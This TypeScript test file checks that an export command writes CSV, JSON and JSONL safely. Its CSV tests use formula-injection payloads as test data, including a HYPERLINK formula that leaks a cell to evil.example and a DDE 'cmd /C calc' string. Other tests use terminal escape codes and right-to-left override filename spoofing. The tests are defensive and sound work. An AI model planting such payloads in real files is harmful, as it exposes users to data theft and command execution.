import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import type { ExportFormat } from '../../../src/commands/export/export-format.ts';
import { formatOfFile, rowFormat } from '../../../src/commands/export/export-format.ts';
import type { ExportRow } from '../../../src/commands/export/row-format.ts';

function written(
  format: ExportFormat,
  rows: ExportRow[],
  { columns = ['page', 'sessions', 'rate'], isTerminal = false } = {},
): string {
  return [...rowFormat(format, { isTerminal })({ columns, rows })].join('');
}

/** The values of one text column as an independent reader gets them. */
function readCsv(values: string[], options: { isTerminal?: boolean } = {}): unknown[] {
  const rows = values.map((page) => ({ page, sessions: 1, rate: null }));
  const [header, ...records] = parse(written('csv', rows, options));
  expect(header).toEqual(['page', 'sessions', 'rate']);
  for (const [, sessions, rate] of records) expect([sessions, rate]).toEqual(['1', '']);
  return records.map(([page]) => page);
}

const two: ExportRow[] = [
  { page: 'https://shop.example/a?b="1",2', sessions: 12, rate: 33.33 },
  { page: '', sessions: 0, rate: null },
];

describe('byte for byte', () => {
  it.each<[ExportFormat, string, string]>([
    [
      'csv',
      'page,sessions,rate\n"https://shop.example/a?b=""1"",2",12,33.33\n,0,\n',
      'page,sessions,rate\n',
    ],
    [
      'json',
      '[\n{"page":"https://shop.example/a?b=\\"1\\",2","sessions":12,"rate":33.33},\n' +
        '{"page":"","sessions":0,"rate":null}\n]\n',
      '[]\n',
    ],
    [
      'jsonl',
      '{"page":"https://shop.example/a?b=\\"1\\",2","sessions":12,"rate":33.33}\n' +
        '{"page":"","sessions":0,"rate":null}\n',
      '',
    ],
  ])('%s is this, and without rows that', (format, some, none) => {
    expect(written(format, two)).toBe(some);
    expect(written(format, [])).toBe(none);
  });

  it('is UTF-8 of what is there, without a mark before it', () => {
    const bytes = Buffer.from(written('csv', [{ page: 'é🛒', sessions: 1, rate: null }]));
    expect(bytes.toString('hex')).toBe(
      Buffer.from('page,sessions,rate\n\u00e9\u{1f6d2},1,\n').toString('hex'),
    );
  });
});

const innocent = [
  'https://shop.example/價格?a=1&b=2#c',
  'a "quoted" page',
  'one, two; three\tfour',
  'line\nbreak, \r\n and \r',
  ' spaces ',
  '👨‍👩‍👧 é ß',
  "'quoted already",
];

describe('CSV', () => {
  it.each(innocent)('gives %j back as it was', (value) => {
    expect(readCsv([value])).toEqual([value]);
  });

  it.each([
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    '-1+1',
    '@SUM(A1:A9)',
    '\t=1',
    '\r=1',
    '\uff1d1+1',
    '\uff0b1',
    '\uff0d1',
    '\uff201',
  ])('lets %j be no formula', (value) => {
    const [read] = readCsv([value]) as [string];
    expect(read).toMatch(/^'/);
    expect(read.replaceAll("'", '')).toBe(value.replaceAll("'", ''));
  });

  it('lets no formula begin where a reader might split that does not split at commas', () => {
    const formula = "=cmd|' /C calc'!A0";
    const page = [';', '\t', '\n', '\r\n'].map((end) => `/a${end}${formula}${end}@b`).join('');
    const text = written('csv', [{ page, sessions: 1, rate: null }]);
    const cells = text.split(/[;\t\r\n]/);
    expect(cells.some((cell) => cell.includes(formula))).toBe(true);
    expect(cells.filter((cell) => /^["\s]*[=+@-]/.test(cell))).toEqual([]);
  });

  it('leaves numbers as they are', () => {
    const row = { page: 'a', sessions: -5, rate: 1.5e-7 };
    expect(written('csv', [row])).toBe('page,sessions,rate\na,-5,1.5e-7\n');
  });

  it('holds nothing that moves a cursor or turns text around', () => {
    const hostile = 'a\u0000b\u001b[2J\u001b]0;owned\u0007\u0085\u009bx\u202egpj.exe\u2066\ufeff';
    const text = written('csv', [{ page: hostile, sessions: 1, rate: null }]);
    expect(text).not.toMatch(/(?!\n)[\p{Cc}\p{Cf}]/u);
    expect(readCsv([hostile])).toEqual(['a�b�[2J�]0;owned���x�gpj.exe��']);
  });

  it('is one line a row on a terminal, like a table', () => {
    const page = 'a\r\nb\t\u001b[31m';
    expect(readCsv([page], { isTerminal: true })).toEqual(['a��b��[31m']);
    expect(written('csv', [{ page, sessions: 1, rate: null }], { isTerminal: true })).toBe(
      'page,sessions,rate\na��b��[31m,1,\n',
    );
  });

  it('loses no row between two batches', () => {
    const pages = Array.from({ length: 1001 }, (_, index) => `/${index}`);
    expect(readCsv(pages)).toEqual(pages);
  });
});

describe.each(['json', 'jsonl'] as const)('%s', (format) => {
  const hostile = [
    ...innocent,
    '=HYPERLINK("https://evil.example")',
    'nul \u0000, escape \u001b[2J, C1 \u009b',
    'invoice\u202egpj.exe \u200b \u2028 \u{e0041}',
  ];
  const rows = hostile.map((page) => ({ page, sessions: 1, rate: null }));

  it('gives every value back as it was, formulas too', () => {
    const text = written(format, rows);
    const read: unknown[] =
      format === 'json'
        ? (JSON.parse(text) as unknown[])
        : text
            .trimEnd()
            .split('\n')
            .map((line) => JSON.parse(line) as unknown);
    expect(read).toEqual(rows);
  });

  it('holds nothing that moves a cursor, turns text around or cannot be seen', () => {
    expect(written(format, rows).replaceAll('\n', '')).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
  });
});

it.each([
  [undefined, 'csv'],
  ['facts.csv', 'csv'],
  ['facts', 'csv'],
  ['facts.txt', 'csv'],
  ['a.csv/facts.JSON', 'json'],
  ['facts.jsonl', 'jsonl'],
  ['facts.ndjson', 'jsonl'],
])('a file named %s is %s', (file, format) => {
  expect(formatOfFile(file)).toBe(format);
});
